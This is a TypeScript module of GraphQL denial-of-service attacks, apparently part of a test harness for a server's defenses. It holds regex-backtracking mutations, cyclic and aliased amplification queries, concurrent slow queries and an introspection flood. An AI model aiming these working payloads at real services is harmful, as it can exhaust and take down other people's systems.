import { getIntrospectionQuery } from 'graphql';
import { hostileRequests, repeat, type Attack, type HostileRequests, type Target } from './attack.ts';
import { slowOperation } from './slow-pattern.ts';

/** Makes an attack by requests; `begin` starts them and returns what ends each of its repetitions. */
const byRequests =
  (begin: (requests: HostileRequests, target: Target) => readonly (() => void)[]): Attack =>
  (target) => {
    const requests = hostileRequests(target);
    const ends = begin(requests, target);

    return Promise.resolve({
      stop: () => {
        for (const end of ends) end();
        return Promise.resolve(requests.hangUp());
      },
    });
  };

const times = <T>(count: number, make: (at: number) => T): T[] =>
  Array.from({ length: count }, (_, at) => make(at));

/** Half a second of comparing for a name of a hundred characters; each pattern is compared again. */
const slowly = (at: number) => ({ first_name: { _regex: `^(.+)(.+)(.+)(.+)\\1\\2\\3\\4$|^#${at}#$` } });

/** Begins to change contacts: first all of them, then for minutes none, and hangs up after half a second. */
export const abandonedMutations = byRequests((requests, { writer }) => {
  const query = `mutation ($updates: [contacts_updates!]!) { update_contacts_many(updates: $updates) { affected_rows } }`;
  const updates = times(300, (at) => ({ where: at === 0 ? {} : slowly(at), _set: { locale: 'en' } }));
  const from = { address: '203.0.113.6', headers: writer, patienceMs: 500 };

  return [repeat(() => requests.post({ query, variables: { updates } }, from), 2_000)];
});

/** Relationships that lead back: each of the three levels has 300 times as many rows. */
const CYCLES = `{ newsletters { ${'deliveries { newsletter { '.repeat(3)}id${' } }'.repeat(3)} } }`;
const copies = (table: string, column: string) =>
  `{ ${table} { ${times(100, (at) => `c${at}: ${column}`).join(' ')} } }`;

/**
 * Sends short requests with immense answers: cycles of relationships and one long column a hundred times, the second as
 * a program and as a stranger; two of each at once.
 */
export const costlyShapes = byRequests((requests, { writer }) => {
  const address = '203.0.113.5';
  const shapes = [
    [CYCLES, writer],
    [copies('newsletters', 'content'), writer],
    [copies('legal_pages', 'body'), {}],
  ] as const;

  return [...shapes, ...shapes].map(([query, headers]) =>
    repeat(() => requests.post({ query }, { address, headers }), 200),
  );
});

/** Keeps 40 queries under way that take seconds each. */
const slowQueries = (addressOf: (at: number) => string): Attack =>
  byRequests((requests) =>
    times(40, (at) => repeat(() => requests.post(slowOperation('query'), { address: addressOf(at) }), 100)),
  );

export const slowQueriesOfPrefix = slowQueries((at) => `2001:db8:1:2::${(at + 1).toString(16)}`);
export const slowQueriesOfTwo = slowQueries((at) => `203.0.113.${10 + (at % 2)}`);

/**
 * The query of GraphQL tools, as many times as fit into one request, with a variable whose value no cached answer was
 * made for.
 */
const INTROSPECTION = repeatSchema(getIntrospectionQuery(), 3).replace(
  'query IntrospectionQuery {',
  'query IntrospectionQuery($name: String!) { asked: __type(name: $name) { name }',
);

function repeatSchema(query: string, parts: number): string {
  const start = query.indexOf('__schema {');
  const end = query.indexOf('fragment FullType');
  const field = query.slice(start, query.lastIndexOf('}', end));

  return `${query.slice(0, start)}${times(parts, (at) => `s${at}: ${field}`).join('\n')}}\n${query.slice(end)}`;
}

/** Sends introspections, 50 a second, and reads each answer. */
export const introspectionFlood = byRequests((requests) => {
  let serial = 0;
  const timer = setInterval(() => {
    serial += 1;
    const variables = { name: `T${serial}` };
    void requests.post({ query: INTROSPECTION, variables }, { address: '203.0.113.1' });
  }, 1_000 / 50);

  return [() => clearInterval(timer)];
});
